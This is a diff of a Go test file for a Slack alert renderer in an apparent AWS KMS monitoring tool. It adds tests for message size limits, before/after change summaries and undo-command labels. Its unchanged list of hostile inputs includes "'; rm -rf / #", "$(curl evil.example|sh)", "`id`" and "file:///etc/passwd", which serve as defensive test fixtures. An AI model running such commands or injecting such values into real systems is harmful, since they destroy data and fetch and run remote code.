@@ -41,7 +41,7 @@ func golden(t *testing.T, name string, got []byte) {
 	t.Helper()
 	path := filepath.Join("testdata", name)
 	if *update {
-		require.NoError(t, os.WriteFile(path, got, 0o644))
+		require.NoError(t, os.WriteFile(path, got, 0o600))
 	}
 	want, err := os.ReadFile(path)
 	require.NoError(t, err, "run the test with -update to write it")
@@ -112,7 +112,7 @@ var hostile = []string{
 	"<!channel>", "<!here|x>", "<@U0SOMEBODY>", "<https://evil.example/|click>", "https://evil.example/x", "www.evil.example",
 	"*bold* _it_ ~no~ `code`", "```\nbreak out\n```", ":fire::rotating_light:", "@everyone @here", "&lt;!channel&gt;", "a & b < c > d",
 	"line\nbreak\r\n> quote", "\u202egnp.exe\u202c", "zero\u200bwidth\u2060joiner\ufeff", "\x00\x07\x1b[31mred", "e\u0301\u0301\u0301\u0301\u0301",
-	"😀😀😀", strings.Repeat("A", 50_000), strings.Repeat("😀", 9_000), strings.Repeat("<", 9_000), strings.Repeat("\"\\", 9_000),
+	"😀😀😀", strings.Repeat("A", 50_000), strings.Repeat("😀", 9_000), strings.Repeat("<", 9_000), strings.Repeat("\"\\", 9_000), strings.Repeat("&", 9_000),
 	"\xff\xfe broken", "{key_arn} {unknown}", "'; rm -rf / #", "$(curl evil.example|sh)", "`id`", "--profile", "file:///etc/passwd", "", " ",
 }
 
@@ -170,6 +170,29 @@ func TestSlackTakesWhateverTheLogsSay(t *testing.T) {
 			check(t, slack.RenderReply(n, slack.Posted{}, why, v))
 		}
 	})
+}
+
+// Ampersands take six bytes each in the JSON that Slack measures.
+func TestMessagesOfTheWorstTextsStayWithinSlacksLimit(t *testing.T) {
+	a, d := deletion()
+	worst := strings.Repeat("&", 9_000)
+	a.Title, a.Principal, a.Key, a.Region = worst, worst, worst, worst
+	for i := range 12 {
+		a.Latest.Evidence[fmt.Sprint("fact_", i)] = []string{worst, worst, worst, worst}
+	}
+	for _, col := range []string{"principal_name", "person", "source_ip", "user_agent", "policy_before", "policy_after"} {
+		a.Latest.Evidence[col] = worst
+	}
+	d.Summary, d.AtRisk, d.Runbook = worst, worst, worst
+	d.Undo = "aws " + strings.Repeat("&", 2_000)
+	n := slack.BuildNotice(a, d, names)
+	check(t, slack.Render(n, slack.View{}))
+	var list []slack.Notice
+	for i := range 20 {
+		n.Alert.Detection = fmt.Sprint("KMS-", i)
+		list = append(list, n, n, n, n, n)
+	}
+	check(t, slack.RenderDigest(list, a.FirstTime))
 }
 
 func TestSlackTakesAnyDigest(t *testing.T) {
@@ -328,11 +351,52 @@ func TestAShellReadsExactlyTheValue(t *testing.T) {
 		want.WriteString(v + "\x01")
 	}
 	require.Greater(t, strings.Count(script.String(), "printf"), 20)
-	cmd := exec.Command(bash)
+	cmd := exec.CommandContext(t.Context(), bash) //nolint:gosec // the program is bash, the input is what is tested
 	cmd.Stdin = strings.NewReader(script.String())
 	got, err := cmd.Output()
 	require.NoError(t, err)
 	require.Equal(t, want.String(), string(got))
+}
+
+func TestWhatChangedIsReadFromPairsOfColumns(t *testing.T) {
+	for name, c := range map[string]struct {
+		evidence map[string]any
+		want     string
+	}{
+		"before and after":      {map[string]any{"policy_before": "a", "policy_after": "b"}, "policy: a → b"},
+		"before and now":        {map[string]any{"statements_before": []string{}, "statements": []string{"All: kms:*"}}, "statements: “All: kms:*” (new)"},
+		"named from the front":  {map[string]any{"admitted_before": []string{"1"}, "admitted_principals": []string{"1", "2"}}, "admitted: 1 → 1, 2"},
+		"named from behind":     {map[string]any{"bucket_before": "logs", "trail_bucket": "mine"}, "bucket: logs → mine"},
+		"taken away":            {map[string]any{"bucket_before": "logs", "trail_bucket": ""}, "bucket: logs (removed)"},
+		"only what was":         {map[string]any{"log_key_before": "k"}, "log key: k (before)"},
+		"only what is":          {map[string]any{"policy_after": "b"}, "policy: b (new)"},
+		"said by the detection": {map[string]any{"changed": "everything"}, "everything"},
+		"no pair":               {map[string]any{"hereafter": "x", "thereinbefore": "y"}, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			a, d := deletion()
+			a.Latest.Evidence = c.evidence
+			n := slack.BuildNotice(a, d, names)
+			require.Equal(t, c.want, n.Changed)
+			if c.want != "" {
+				require.Empty(t, n.Facts, "told once")
+			}
+		})
+	}
+}
+
+func TestNumberedStepsAreLines(t *testing.T) {
+	n := notice(deletion)
+	n.Do = "1. Ask the caller. 2. Cancel it:\nthat costs nothing. 3. Look for KMS-D02."
+	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))),
+		"| 1. Ask the caller.\n| 2. Cancel it: that costs nothing.\n| 3. Look for KMS-D02.\n")
+}
+
+func TestACommandThatOnlyShowsIsNotCalledUndoing(t *testing.T) {
+	n := notice(deletion)
+	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))), "*To undo it*")
+	n.Undo = "aws kms get-key-policy --key-id x --policy-name default"
+	require.Contains(t, readable(t, mustJSON(t, slack.Render(n, slack.View{}))), "*To begin with*")
 }
 
 func TestACommandIsShownWholeOrNotAtAll(t *testing.T) {
